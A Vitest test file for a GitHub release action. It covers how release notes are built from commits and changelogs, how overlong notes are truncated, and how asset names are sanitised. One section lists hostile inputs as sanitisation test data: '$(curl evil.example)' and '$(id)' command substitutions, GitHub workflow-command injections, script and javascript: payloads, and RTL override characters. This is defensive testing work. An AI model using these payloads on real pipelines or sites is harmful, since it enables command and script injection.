import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { PACKAGE, ReleaseScenario } from "./release-scenario.ts";

let world: ReleaseScenario;

beforeEach(async () => {
  world = await ReleaseScenario.start();
});

afterEach(() => world.close());

const bare = { "version-files": "none" };
const body = () => world.github.releases.all.at(-1)!.body!;

describe("from commits", () => {
  test("since the version before, of the same line, grouped", async () => {
    world.publish({ "a.txt": "1" }, "v1.2.2", "feat: first");
    world.publish({ "a.txt": "2" }, "v2.0.0", "feat: of the next line");
    world.repository.git("reset", "--quiet", "--hard", "v1.2.2");
    world.publish({ "a.txt": "3" }, "v1.2.3-rc.1", "fix(parser): reads a|b (#12)");
    world.publish({ "a.txt": "4" }, undefined, "feat!: no more XML\n\nBREAKING CHANGE: use JSON");
    world.publish({ "a.txt": "5" }, undefined, "Update stuff");
    world.repository.git("tag", "v1.2.3");
    world.push();
    const run = await world.release("v1.2.3", { ...bare, notes: "commits" });
    expect(run.outcome, run.log).toBe("success");
    expect(run.outputs.get("previous-tag")).toBe("v1.2.2");
    const text = body();
    expect(text.indexOf("## Breaking changes")).toBe(0);
    expect(text).toContain("use JSON");
    expect(text).toMatch(/\*\*parser:\*\* reads a\\\|b \(\[.*#.*12\]\(https:\/\/github.com\/org\/demo\/pull\/12\)\)/);
    expect(text).toContain("## Not in the form of Conventional Commits\n\n- Update stuff");
    expect(text).not.toContain("first");
    expect(text).not.toContain("next line");
    expect(text).toContain("(https://github.com/org/demo/compare/v1.2.2...v1.2.3)");
  });

  test("of a package, only what touches its folder", async () => {
    world.publish({ "packages/pkg/package.json": '{ "version": "1.2.3" }' }, "pkg-v1.2.2", "feat: first");
    world.publish({ "packages/pkg/a.txt": "2" }, undefined, "fix: of the package");
    world.publish({ "other/a.txt": "2" }, "pkg-v1.2.3", "fix: of another one");
    const run = await world.release("pkg-v1.2.3", { ...bare, notes: "commits" });
    expect(run.outcome, run.log).toBe("success");
    expect(body()).toContain("of the package");
    expect(body()).not.toContain("another one");
  });

  test("in a checkout of depth one, which has neither tags nor branches", async () => {
    world.publish({ "a.txt": "0" }, "v1.2.2", "feat: first");
    for (let at = 1; at <= 60; at++) world.repository.commit({ "a.txt": String(at) }, `fix: change ${at}`);
    world.publish({ "a.txt": "61" }, "v1.2.3", "fix: change 61");
    const folder = mkdtempSync(join(tmpdir(), "jessy-shallow-"));
    try {
      const remote = `file://${world.repository.git("remote", "get-url", "origin")}`;
      const sha = world.repository.head;
      const git = (...args: string[]) => execFileSync("git", ["-C", folder, ...args], { stdio: "ignore" });
      git("init", "--quiet");
      git("remote", "add", "origin", remote);
      git("fetch", "--quiet", "--no-tags", "--depth=1", "origin", `+${sha}:refs/tags/v1.2.3`);
      git("checkout", "--quiet", "v1.2.3");
      const run = await world.release("v1.2.3", { ...bare, notes: "commits" }, { workspace: folder });
      expect(run.outcome, run.log).toBe("success");
      expect(body().match(/^- change \d+ /gm)).toHaveLength(61);
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});

test("from a file, from GitHub, and mixed", async () => {
  world.publish({ ...PACKAGE, "NOTES.md": "By hand.\n" }, "v1.2.3");
  const run = await world.release("v1.2.3", { notes: "file, changelog, github", "notes-file": "NOTES.md" });
  expect(run.outcome, run.log).toBe("success");
  expect(body()).toMatch(/^By hand\.\n\n## Fixed\n\n- The parser reads `a\|b`\.\n\n## What's Changed\n/);
});

test("more than GitHub takes are cut at an entry, and all of them are an asset", async () => {
  const entries = Array.from({ length: 3000 }, (_, at) => `- Entry ${at}: ${"x".repeat(50)} 🦀`);
  world.publish({ ...PACKAGE, "CHANGELOG.md": `## 1.2.3\n\n${entries.join("\n")}\n` }, "v1.2.3");
  const run = await world.release("v1.2.3");
  expect(run.outcome, run.log).toBe("success");
  expect(body().length).toBeLessThanOrEqual(125_000);
  const lines = body().split("\n");
  expect(lines.at(-1)).toBe(
    "These notes are too long for GitHub. [All of them](https://github.com/org/demo/releases/download/v1.2.3/RELEASE_NOTES.md) are among the assets.",
  );
  expect(lines.at(-3)).toMatch(/^- Entry \d+: x{50} 🦀$/);
  const [asset] = world.github.releases.all[0]!.assets;
  expect(world.github.releases.assets.content(asset!.id)!.toString()).toBe(`${entries.join("\n")}\n`);
  expect(readFileSync(run.outputs.get("notes-file")!, "utf8")).toContain("Entry 2999");
});

describe("what comes from outside stays text", () => {
  /** GHSA-cxm3-wv7p-598c and its like: titles that became shell, outputs or markup. */
  const HOSTILE = [
    "$(curl evil.example)",
    "`id`",
    "::set-output name=tag::v9.9.9",
    "::error::pwned",
    "<<ghadelimiter_1",
    "EOF",
    "%0A::warning::x",
    "</details><script>alert(1)</script>",
    "@everyone see #1 and org/other#2",
    "\u202ereversed",
    "[x](javascript:alert(1)) ![y](https://evil.example/z.png)",
    "a | b",
    "x".repeat(65_000),
  ];

  test("in commits", async () => {
    world.publish({ "a.txt": "0" }, "v1.2.2", "feat: first");
    for (const [at, text] of HOSTILE.entries()) {
      world.repository.commit({ "a.txt": `a${at}` }, `feat(${at}): ${text}`);
      world.repository.commit({ "a.txt": `b${at}` }, text);
    }
    world.repository.git("tag", "v1.2.3");
    world.push();
    const run = await world.release("v1.2.3", { ...bare, notes: "commits" });
    expect(run.outcome, run.log.slice(0, 5000)).toBe("success");
    const text = body();
    expect(text).not.toMatch(/<script|<\/details|@everyone|\u202e|\]\(javascript|!\[/);
    expect(text).not.toMatch(/(?:^|[^\\])`id`/);
    expect(run.outputs.get("tag")).toBe("v1.2.3");
    expect(run.step.annotations.map(({ message }) => message).join("\n")).not.toContain("pwned");
    expect([...run.outputs.keys()].sort()).toEqual([
      "assets",
      "notes-file",
      "previous-tag",
      "release-id",
      "result-file",
      "tag",
      "upload-url",
      "url",
      "version",
    ]);
  });

  test("in the names of files", async () => {
    world.publish(PACKAGE, "v1.2.3");
    const names = [
      "$(curl evil).txt",
      "`id`.txt",
      "a\n::error::pwned.txt",
      "<b>@all.txt",
      "ä b.txt",
      "%0A.txt",
      "\u202efdp.txt",
      ".hidden",
      "a+b.txt",
    ];
    world.repository.write(Object.fromEntries(names.map((name) => [`out/${name}`, name])));
    const run = await world.release("v1.2.3", { files: "out/*" });
    expect(run.outcome, run.log).toBe("success");
    const stored = world.github.releases.all[0]!.assets.map(({ name }) => name).sort();
    expect(stored).toEqual([
      "0A.txt",
      "SHA256SUMS",
      "a+b.txt",
      "a.b.txt",
      "a.error.pwned.txt",
      "b.@all.txt",
      "curl.evil.txt",
      "default.hidden",
      "fdp.txt",
      "id.txt",
    ]);
    expect(run.step.annotations.map(({ message }) => message)).toEqual([]);
    expect(run.summary).not.toMatch(/<b>@|\u202e/);
    expect(readFileSync(run.outputs.get("checksums-file")!, "utf8")).toMatch(
      /^(?:[0-9a-f]{64} {2}[A-Za-z0-9+@._-]+\n)+$/,
    );
  });

  test("a name of a tag that git takes and no version has", async () => {
    world.publish(PACKAGE);
    world.repository.git("tag", "v1.2.3;$(id)");
    const run = await world.release("v1.2.3;$(id)", {}, { sha: world.repository.head });
    expect(run.outcome).toBe("failure");
    expect(run.log).toContain("the tag `v1.2.3;$(id)`, which the run is for,");
  });
});
